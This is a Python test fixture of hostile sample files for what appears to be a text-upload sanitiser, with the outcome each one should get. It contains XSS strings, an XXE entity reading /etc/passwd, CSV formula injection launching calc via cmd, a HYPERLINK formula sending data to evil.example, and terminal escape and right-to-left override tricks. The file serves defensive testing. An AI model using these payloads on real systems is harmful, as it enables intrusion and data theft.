"""Plain text that a terminal, a browser or a spreadsheet would act on."""

from tests.core.hostile.sample import Sample

PAGES = {
    "a picture that runs when it fails": "chào <img src=x onerror=alert(1)>",
    "a page that runs when it opens": "<body onload=alert(1)>",
    "a page that leads on": "<meta http-equiv=refresh content='0;url=//evil'>",
    "a link that is a script": "<a href='javascript:alert(1)'>x</a>",
    "a program of Windows as a page": "<hta:application id=x>",
    "a drawing under a prefix": "<s:svg xmlns:s='http://www.w3.org/2000/svg'/>",
    "a script in another alphabet": "+ADw-script+AD4-alert(1)",
    "an entity that reads a file": "<!ENTITY a SYSTEM 'file:///etc/passwd'>",
    "a table of pages": "<table><tr><td>=1+1</td></tr></table>",
    "a table of symbols": "ID;PWXL;N;E\nC;X1;Y1;ECALL()\nE\n",
    "a question to the web": "WEB\n1\nhttp://evil.example\n",
    "a shortcut to a site": "[InternetShortcut]\nURL=file://evil/x",
    "a shortcut of a desktop": "[Desktop Entry]\nExec=id",
    "settings of Windows": "Windows Registry Editor Version 5.00\n",
    "a mail": "MIME-Version: 1.0\nContent-Type: text/html\n\nx",
}
TABLES = {
    "behind another sign": ("a,b,c\nx;=cmd|'/c calc'!A1;y\n", b"x;=cmd"),
    "behind a tab among commas": ("a,b,c\nx\t=cmd()\n", b"\t=cmd"),
    "behind a sign that the table names": ("sep=#\na#b\nx#=cmd()\n", b"#=cmd"),
    "behind an upright stroke": ("a|b\nx|=cmd()\n", b"|=cmd"),
    "behind a letter without width": ("a,b\n\u200b=cmd(),1\n", "\n\u200b=".encode()),
    "behind a mark of order": ("a,b\n\ufeff=cmd(),1\n", "\n\ufeff=".encode()),
    "behind a wide blank": ("a,b\n\u3000=cmd(),1\n", "\n\u3000=".encode()),
}
SAMPLES = [
    Sample("a page called TXT", "a.txt", lambda: b"<!DOCTYPE html><script>alert(1)</script>",
           refused=("markup",)),
    Sample("a page behind a mark of order", "a.txt",
           lambda: b"\xef\xbb\xbf  <html><script>alert(1)</script>", refused=("markup",)),
    Sample("a page in UTF-16", "a.txt", lambda: "<script>alert(1)</script>".encode("utf-16"),
           refused=("markup",)),
    Sample("PHP called TXT", "a.txt", lambda: b"xin chao <?php system('id') ?>",
           refused=("markup",)),
    Sample("a script called TXT", "a.txt", lambda: b"#!/bin/sh\nid", refused=("markup",)),
    Sample("bytes called TXT", "a.txt", lambda: bytes(range(256)), refused=("not-text",)),
    Sample("a text in an old encoding", "a.txt", lambda: "Kính gửi".encode("cp1258", "replace")
           + b"\xe1\xba", refused=("not-text",)),
    Sample("orders to a terminal", "a.txt", lambda: b"a\x1b]0;x\x07\x1b[2Jb",
           neutralised=("controls",), gone=(b"\x1b",)),
    Sample("text that reads backwards", "a.txt", lambda: "a\u202egpj.exe".encode(),
           neutralised=("controls",), gone=("\u202e".encode(),)),
    Sample("a table that starts a program", "a.csv",
           lambda: b"ten,so\n=cmd|' /C calc'!A0,1\n", neutralised=("formula",), gone=(b"\n=cmd",)),
    Sample("a table that sends data away", "a.csv",
           lambda: b'a;b\n"=HYPERLINK(""http://evil.example?""&A1)";x\n',
           neutralised=("formula",), gone=(b'"=HYPER', b"\n=HYPER")),
    Sample("a formula in full-width signs", "a.csv", lambda: "a,b\n＝1+1,@SUM(1)\n".encode(),
           neutralised=("formula",), gone=("\n＝".encode(), b",@SUM")),
    Sample("a formula behind a tab", "a.csv", lambda: b'a,b\n"\t=1+1",2\n',
           neutralised=("formula",), gone=(b'"\t=',)),
    Sample("a table with one endless cell", "a.csv", lambda: b'"' + b"a" * 500_000,
           refused=("unreadable",)),
    *(Sample(f"{title} called TXT", "a.txt", text.encode, refused=("markup",))
      for title, text in PAGES.items()),
    *(Sample(f"a formula {where}", "a.csv", text.encode, neutralised=("formula",), gone=(gone,))
      for where, (text, gone) in TABLES.items()),
]  # fmt: skip
